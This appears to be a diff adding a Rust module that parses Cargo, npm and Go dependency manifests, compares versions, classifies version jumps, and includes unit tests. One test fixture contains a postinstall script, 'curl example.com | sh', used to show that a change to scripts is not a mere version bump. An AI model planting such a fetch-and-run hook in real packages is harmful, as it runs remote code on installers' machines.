@@ -0,0 +1,606 @@
+// Parsing and comparison of dependency manifests.
+//
+// Lockfile diffs are long and hard to read; what a reviewer wants to know is which
+// dependencies were added, removed or upgraded, and how big each version jump is. This
+// module reads the dependencies declared in `Cargo.toml`, `Cargo.lock`, `package.json` and
+// `go.mod` and compares two versions of a manifest. Fetching the files is the provider's job.
+use serde_json::Value;
+use std::collections::BTreeMap;
+
+/// File names recognized as dependency manifests.
+pub const MANIFESTS: &[&str] = &["Cargo.toml", "Cargo.lock", "package.json", "go.mod"];
+
+/// Other manifests and lockfiles: not parsed, but changing nothing else still makes a
+/// change dependency-only (see `is_dependency_file`).
+pub const DEPENDENCY_FILES: &[&str] = &[
+    "package-lock.json",
+    "yarn.lock",
+    "pnpm-lock.yaml",
+    "go.sum",
+    "Gemfile",
+    "Gemfile.lock",
+    "requirements.txt",
+    "pyproject.toml",
+    "poetry.lock",
+    "composer.json",
+    "composer.lock",
+];
+
+/// The dependency sections of a `Cargo.toml` read here (besides `[workspace.dependencies]`).
+const CARGO_SECTIONS: &[&str] = &["dependencies", "dev-dependencies", "build-dependencies"];
+
+/// The dependency kinds of a `package.json` read here.
+const PACKAGE_JSON_KINDS: &[&str] = &[
+    "dependencies",
+    "devDependencies",
+    "peerDependencies",
+    "optionalDependencies",
+];
+
+/// Dependency name → version requirement (or locked version).
+pub type Dependencies = BTreeMap<String, String>;
+
+/// How a dependency changed between two versions of a manifest.
+#[derive(Debug, PartialEq, Eq)]
+pub enum DependencyChange {
+    Added {
+        name: String,
+        version: String,
+    },
+    Removed {
+        name: String,
+        version: String,
+    },
+    Changed {
+        name: String,
+        from: String,
+        to: String,
+    },
+}
+
+/// Whether `path` is a manifest this module understands.
+pub fn is_manifest(path: &str) -> bool {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    MANIFESTS.contains(&name)
+}
+
+/// Whether `path` is a dependency manifest or lockfile, parsed or not.
+pub fn is_dependency_file(path: &str) -> bool {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    is_manifest(path) || DEPENDENCY_FILES.contains(&name)
+}
+
+/// Reads the dependencies declared in a manifest.
+///
+/// # Parameters
+/// - `path`: Path of the manifest; its file name selects the parser
+/// - `text`: The file's contents
+///
+/// # Returns
+/// - The dependencies; an unparseable file yields none.
+pub fn parse(path: &str, text: &str) -> Dependencies {
+    match path.rsplit('/').next().unwrap_or(path) {
+        "Cargo.toml" => parse_cargo_toml(text),
+        "Cargo.lock" => parse_cargo_lock(text),
+        "package.json" => parse_package_json(text),
+        "go.mod" => parse_go_mod(text),
+        _ => Dependencies::new(),
+    }
+}
+
+/// Compares two versions of a manifest's dependencies.
+///
+/// # Returns
+/// - The changes, sorted by dependency name.
+pub fn compare(before: &Dependencies, after: &Dependencies) -> Vec<DependencyChange> {
+    let mut changes = Vec::new();
+    for (name, version) in before {
+        match after.get(name) {
+            None => changes.push(DependencyChange::Removed {
+                name: name.clone(),
+                version: version.clone(),
+            }),
+            Some(new) if new != version => changes.push(DependencyChange::Changed {
+                name: name.clone(),
+                from: version.clone(),
+                to: new.clone(),
+            }),
+            Some(_) => {}
+        }
+    }
+    for (name, version) in after {
+        if !before.contains_key(name) {
+            changes.push(DependencyChange::Added {
+                name: name.clone(),
+                version: version.clone(),
+            });
+        }
+    }
+    changes.sort_by(|a, b| a.name().cmp(b.name()));
+    changes
+}
+
+/// Whether two versions of a manifest differ in nothing but dependency versions, i.e.
+/// whether [`compare`] accounts for the whole diff.
+///
+/// Anything else that changed (`scripts` in a `package.json`, a `[patch]` section or a git
+/// source in a `Cargo.toml`, a `replace` in a `go.mod`, ...) makes it `false`, and so does
+/// a side that can't be parsed.
+pub fn only_versions_differ(path: &str, before: &str, after: &str) -> bool {
+    match (
+        without_versions(path, before),
+        without_versions(path, after),
+    ) {
+        (Some(before), Some(after)) => before == after,
+        _ => false,
+    }
+}
+
+/// A manifest with the version of every dependency [`parse`] reads blanked out.
+///
+/// # Returns
+/// - `None` if the file can't be parsed or isn't a manifest this module understands.
+fn without_versions(path: &str, text: &str) -> Option<Value> {
+    match path.rsplit('/').next().unwrap_or(path) {
+        "Cargo.toml" => {
+            let mut table = text.parse::<toml::Table>().ok()?;
+            for &key in CARGO_SECTIONS {
+                blank_cargo_versions(table.get_mut(key));
+            }
+            blank_cargo_versions(
+                table
+                    .get_mut("workspace")
+                    .and_then(|w| w.get_mut("dependencies")),
+            );
+            serde_json::to_value(table).ok()
+        }
+        "Cargo.lock" => {
+            let mut table = text.parse::<toml::Table>().ok()?;
+            if let Some(packages) = table.get_mut("package").and_then(|p| p.as_array_mut()) {
+                for package in packages.iter_mut().filter_map(|p| p.as_table_mut()) {
+                    // The checksum changes along with the version
+                    package.remove("version");
+                    package.remove("checksum");
+                    // `name version` entries tell several locked versions apart
+                    for dependency in package
+                        .get_mut("dependencies")
+                        .and_then(|d| d.as_array_mut())
+                        .into_iter()
+                        .flatten()
+                    {
+                        if let toml::Value::String(dependency) = dependency {
+                            dependency.truncate(dependency.find(' ').unwrap_or(dependency.len()));
+                        }
+                    }
+                }
+                packages.sort_by_key(|package| package.to_string());
+            }
+            serde_json::to_value(table).ok()
+        }
+        "package.json" => {
+            let mut json = serde_json::from_str::<Value>(text).ok()?;
+            for &kind in PACKAGE_JSON_KINDS {
+                for version in json
+                    .get_mut(kind)
+                    .and_then(|d| d.as_object_mut())
+                    .into_iter()
+                    .flat_map(|d| d.values_mut())
+                {
+                    *version = Value::Null;
+                }
+            }
+            Some(json)
+        }
+        "go.mod" => {
+            let mut in_block = false;
+            let lines = text
+                .lines()
+                .map(str::trim)
+                .filter(|line| !line.is_empty())
+                .map(|line| {
+                    let (code, comment) = line.split_once("//").unwrap_or((line, ""));
+                    let line = match go_require(code.trim(), &mut in_block) {
+                        Some(spec) => {
+                            let module = spec.split_whitespace().next().unwrap_or("");
+                            format!("require {} //{}", module, comment)
+                        }
+                        None => line.to_string(),
+                    };
+                    Value::String(line)
+                })
+                .collect();
+            Some(Value::Array(lines))
+        }
+        _ => None,
+    }
+}
+
+/// Blanks the versions in a `Cargo.toml` dependency section, both `name = "1.2"` and
+/// `name = { version = "1.2", ... }`.
+fn blank_cargo_versions(section: Option<&mut toml::Value>) {
+    for spec in section
+        .and_then(|s| s.as_table_mut())
+        .into_iter()
+        .flat_map(|s| s.iter_mut().map(|(_, spec)| spec))
+    {
+        match spec {
+            toml::Value::String(version) => version.clear(),
+            toml::Value::Table(table) => {
+                if let Some(toml::Value::String(version)) = table.get_mut("version") {
+                    version.clear();
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+impl DependencyChange {
+    /// Name of the dependency that changed.
+    pub fn name(&self) -> &str {
+        match self {
+            DependencyChange::Added { name, .. }
+            | DependencyChange::Removed { name, .. }
+            | DependencyChange::Changed { name, .. } => name,
+        }
+    }
+}
+
+/// Size of a version change: `major`, `minor`, `patch`, or `downgrade`.
+///
+/// Requirements such as `^1.2`, `~1.2.3` or `v1.2.3` are compared by their numbers.
+/// Below 1.0 a minor bump counts as major (as in Cargo's and npm's compatibility rules).
+///
+/// # Returns
+/// - `None` if either side isn't a version number (git/path dependencies, `*`, ...).
+pub fn version_jump(from: &str, to: &str) -> Option<&'static str> {
+    let (old, new) = (version_numbers(from)?, version_numbers(to)?);
+    if new < old {
+        return Some("downgrade");
+    }
+    let part = |v: &Vec<u64>, i: usize| v.get(i).copied().unwrap_or(0);
+    if part(&old, 0) != part(&new, 0) || (part(&old, 0) == 0 && part(&old, 1) != part(&new, 1)) {
+        Some("major")
+    } else if part(&old, 1) != part(&new, 1) {
+        Some("minor")
+    } else {
+        Some("patch")
+    }
+}
+
+/// The numeric parts of a version or requirement (`^1.2.3` → `[1, 2, 3]`).
+fn version_numbers(version: &str) -> Option<Vec<u64>> {
+    let trimmed = version.trim_start_matches(|c: char| !c.is_ascii_digit());
+    // Pre-release and build suffixes don't take part in the comparison
+    let core = trimmed.split(['-', '+', ' ', ',']).next()?;
+    let numbers: Option<Vec<u64>> = core.split('.').map(|p| p.parse().ok()).collect();
+    numbers.filter(|n| !n.is_empty())
+}
+
+/// `[dependencies]`, `[dev-dependencies]`, `[build-dependencies]` and
+/// `[workspace.dependencies]` of a `Cargo.toml`.
+fn parse_cargo_toml(text: &str) -> Dependencies {
+    let Ok(table) = text.parse::<toml::Table>() else {
+        return Dependencies::new();
+    };
+
+    let mut deps = Dependencies::new();
+    let mut sections: Vec<(&str, &toml::Value)> = Vec::new();
+    for &key in CARGO_SECTIONS {
+        if let Some(section) = table.get(key) {
+            sections.push((key, section));
+        }
+    }
+    if let Some(section) = table.get("workspace").and_then(|w| w.get("dependencies")) {
+        sections.push(("workspace.dependencies", section));
+    }
+
+    for (kind, section) in sections {
+        let Some(entries) = section.as_table() else {
+            continue;
+        };
+        for (name, spec) in entries {
+            let version = match spec {
+                toml::Value::String(v) => v.clone(),
+                toml::Value::Table(t) => match (t.get("version"), t.get("git"), t.get("path")) {
+                    (Some(v), _, _) => v.as_str().unwrap_or("?").to_string(),
+                    (None, Some(git), _) => format!("git {}", git.as_str().unwrap_or("?")),
+                    (None, None, Some(path)) => format!("path {}", path.as_str().unwrap_or("?")),
+                    _ => "workspace".to_string(),
+                },
+                _ => "?".to_string(),
+            };
+            // The same crate can appear as a normal and a dev dependency
+            let key = if kind == "dependencies" {
+                name.clone()
+            } else {
+                format!("{} ({})", name, kind)
+            };
+            deps.insert(key, version);
+        }
+    }
+    deps
+}
+
+/// Locked packages of a `Cargo.lock`; several versions of one crate are joined with `, `,
+/// newest first by version number, so that [`version_jump`] compares the newest ones.
+fn parse_cargo_lock(text: &str) -> Dependencies {
+    let Ok(table) = text.parse::<toml::Table>() else {
+        return Dependencies::new();
+    };
+
+    let mut versions: BTreeMap<String, Vec<String>> = BTreeMap::new();
+    for package in table
+        .get("package")
+        .and_then(|p| p.as_array())
+        .into_iter()
+        .flatten()
+    {
+        if let (Some(name), Some(version)) = (
+            package.get("name").and_then(|v| v.as_str()),
+            package.get("version").and_then(|v| v.as_str()),
+        ) {
+            versions
+                .entry(name.to_string())
+                .or_default()
+                .push(version.to_string());
+        }
+    }
+    versions
+        .into_iter()
+        .map(|(name, mut v)| {
+            v.sort_by(|a, b| {
+                version_numbers(b)
+                    .cmp(&version_numbers(a))
+                    .then_with(|| b.cmp(a))
+            });
+            (name, v.join(", "))
+        })
+        .collect()
+}
+
+/// `dependencies`, `devDependencies`, `peerDependencies` and `optionalDependencies` of a
+/// `package.json`.
+fn parse_package_json(text: &str) -> Dependencies {
+    let Ok(json) = serde_json::from_str::<Value>(text) else {
+        return Dependencies::new();
+    };
+
+    let mut deps = Dependencies::new();
+    for &kind in PACKAGE_JSON_KINDS {
+        for (name, version) in json[kind].as_object().into_iter().flatten() {
+            let key = if kind == "dependencies" {
+                name.clone()
+            } else {
+                format!("{} ({})", name, kind)
+            };
+            deps.insert(key, version.as_str().unwrap_or("?").to_string());
+        }
+    }
+    deps
+}
+
+/// `require` directives of a `go.mod`, both single-line and block form.
+fn parse_go_mod(text: &str) -> Dependencies {
+    let mut deps = Dependencies::new();
+    let mut in_block = false;
+    for line in text.lines() {
+        // Drop `// indirect` and other comments
+        let line = line.split("//").next().unwrap_or("").trim();
+        let Some(spec) = go_require(line, &mut in_block) else {
+            continue;
+        };
+
+        let mut parts = spec.split_whitespace();
+        if let (Some(module), Some(version)) = (parts.next(), parts.next()) {
+            deps.insert(module.to_string(), version.to_string());
+        }
+    }
+    deps
+}
+
+/// The `module version` of a `go.mod` line (without its comment) if it requires a module,
+/// on its own or inside a `require ( ... )` block; `in_block` tracks the block.
+fn go_require<'a>(line: &'a str, in_block: &mut bool) -> Option<&'a str> {
+    if *in_block {
+        if line == ")" {
+            *in_block = false;
+            return None;
+        }
+        (!line.is_empty()).then_some(line)
+    } else if line == "require (" {
+        *in_block = true;
+        None
+    } else {
+        line.strip_prefix("require ")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// `(name, version)` pairs of parsed dependencies, for compact assertions.
+    fn pairs(deps: &Dependencies) -> Vec<(&str, &str)> {
+        deps.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect()
+    }
+
+    #[test]
+    fn cargo_toml_reads_every_dependency_section() {
+        let deps = parse(
+            "crates/cli/Cargo.toml",
+            r#"
+[dependencies]
+serde = "1.0"
+tokio = { version = "1", features = ["rt"] }
+local = { path = "../local" }
+forked = { git = "https://example.com/forked" }
+
+[dev-dependencies]
+serde = "1.0.100"
+
+[workspace.dependencies]
+regex = "1.10"
+"#,
+        );
+        assert_eq!(
+            pairs(&deps),
+            [
+                ("forked", "git https://example.com/forked"),
+                ("local", "path ../local"),
+                ("regex (workspace.dependencies)", "1.10"),
+                ("serde", "1.0"),
+                ("serde (dev-dependencies)", "1.0.100"),
+                ("tokio", "1"),
+            ]
+        );
+    }
+
+    #[test]
+    fn cargo_lock_lists_several_versions_newest_first() {
+        let deps = parse(
+            "Cargo.lock",
+            r#"
+[[package]]
+name = "syn"
+version = "1.0.9"
+
+[[package]]
+name = "syn"
+version = "1.0.10"
+
+[[package]]
+name = "syn"
+version = "2.0.1"
+
+[[package]]
+name = "libc"
+version = "0.2.174"
+"#,
+        );
+        assert_eq!(
+            pairs(&deps),
+            [("libc", "0.2.174"), ("syn", "2.0.1, 1.0.10, 1.0.9")]
+        );
+        assert_eq!(
+            version_jump("1.0.10, 1.0.9", "2.0.1, 1.0.10"),
+            Some("major")
+        );
+    }
+
+    #[test]
+    fn package_json_reads_every_dependency_kind() {
+        let deps = parse(
+            "web/package.json",
+            r#"{
+                "name": "web",
+                "dependencies": { "react": "^18.2.0" },
+                "devDependencies": { "vitest": "~1.6.0" },
+                "peerDependencies": { "react-dom": ">=18" },
+                "optionalDependencies": { "fsevents": "2.3.3" }
+            }"#,
+        );
+        assert_eq!(
+            pairs(&deps),
+            [
+                ("fsevents (optionalDependencies)", "2.3.3"),
+                ("react", "^18.2.0"),
+                ("react-dom (peerDependencies)", ">=18"),
+                ("vitest (devDependencies)", "~1.6.0"),
+            ]
+        );
+    }
+
+    #[test]
+    fn go_mod_reads_single_line_and_block_requires() {
+        let deps = parse(
+            "go.mod",
+            "module example.com/app\n\ngo 1.22\n\nrequire github.com/pkg/errors v0.9.1\n\nrequire (\n\tgolang.org/x/sync v0.7.0 // indirect\n\tgithub.com/google/uuid v1.6.0\n)\n",
+        );
+        assert_eq!(
+            pairs(&deps),
+            [
+                ("github.com/google/uuid", "v1.6.0"),
+                ("github.com/pkg/errors", "v0.9.1"),
+                ("golang.org/x/sync", "v0.7.0"),
+            ]
+        );
+    }
+
+    #[test]
+    fn unparseable_manifests_yield_nothing() {
+        assert!(parse("Cargo.toml", "[dependencies").is_empty());
+        assert!(parse("package.json", "{").is_empty());
+        assert!(parse("README.md", "[dependencies]\nserde = \"1\"").is_empty());
+    }
+
+    #[test]
+    fn version_jumps_follow_semver() {
+        assert_eq!(version_jump("1.2.3", "2.0.0"), Some("major"));
+        assert_eq!(version_jump("^1.2", "^1.3"), Some("minor"));
+        assert_eq!(version_jump("v1.2.3", "v1.2.4"), Some("patch"));
+        assert_eq!(version_jump("0.2.0", "0.3.0"), Some("major"));
+        assert_eq!(version_jump("1.10.0", "1.9.0"), Some("downgrade"));
+        assert_eq!(version_jump("git https://x", "1.0"), None);
+    }
+
+    #[test]
+    fn version_bumps_alone_are_explained() {
+        let before = "[dependencies]\nserde = \"1.0.1\"\ntokio = { version = \"1.38.0\", features = [\"rt\"] }\n";
+        let after = "[dependencies]\nserde = \"1.0.2\"\ntokio = { version = \"1.38.1\", features = [\"rt\"] }\n";
+        assert!(only_versions_differ("Cargo.toml", before, after));
+
+        let lock = |version: &str, checksum: &str| {
+            format!(
+                "version = 3\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"serde {}\"]\n\n[[package]]\nname = \"serde\"\nversion = \"{}\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{}\"\n",
+                version, version, checksum
+            )
+        };
+        assert!(only_versions_differ(
+            "Cargo.lock",
+            &lock("1.0.1", "aaaa"),
+            &lock("1.0.2", "bbbb")
+        ));
+
+        assert!(only_versions_differ(
+            "package.json",
+            r#"{"name": "web", "dependencies": {"react": "^18.2.0"}}"#,
+            r#"{"name": "web", "dependencies": {"react": "^18.2.1"}}"#,
+        ));
+        assert!(only_versions_differ(
+            "go.mod",
+            "module app\n\nrequire (\n\tgolang.org/x/sync v0.7.0 // indirect\n)\n",
+            "module app\n\nrequire (\n\tgolang.org/x/sync v0.7.1 // indirect\n)\n",
+        ));
+    }
+
+    #[test]
+    fn other_manifest_changes_are_not_explained() {
+        assert!(!only_versions_differ(
+            "Cargo.toml",
+            "[dependencies]\nserde = \"1.0.1\"\n",
+            "[dependencies]\nserde = \"1.0.2\"\n\n[patch.crates-io]\nserde = { git = \"https://example.com/serde\" }\n",
+        ));
+        assert!(!only_versions_differ(
+            "Cargo.toml",
+            "[dependencies]\nserde = { version = \"1.0.1\" }\n",
+            "[dependencies]\nserde = { version = \"1.0.2\", git = \"https://example.com/serde\" }\n",
+        ));
+        assert!(!only_versions_differ(
+            "package.json",
+            r#"{"scripts": {"postinstall": "true"}, "dependencies": {"react": "18.2.0"}}"#,
+            r#"{"scripts": {"postinstall": "curl example.com | sh"}, "dependencies": {"react": "18.2.1"}}"#,
+        ));
+        assert!(!only_versions_differ(
+            "go.mod",
+            "module app\n\nrequire golang.org/x/sync v0.7.0\n",
+            "module app\n\nrequire golang.org/x/sync v0.7.1\n\nreplace golang.org/x/sync => ../sync\n",
+        ));
+        assert!(!only_versions_differ(
+            "Cargo.toml",
+            "[dependencies",
+            "[dependencies]"
+        ));
+        assert!(!only_versions_differ("yarn.lock", "", ""));
+    }
+}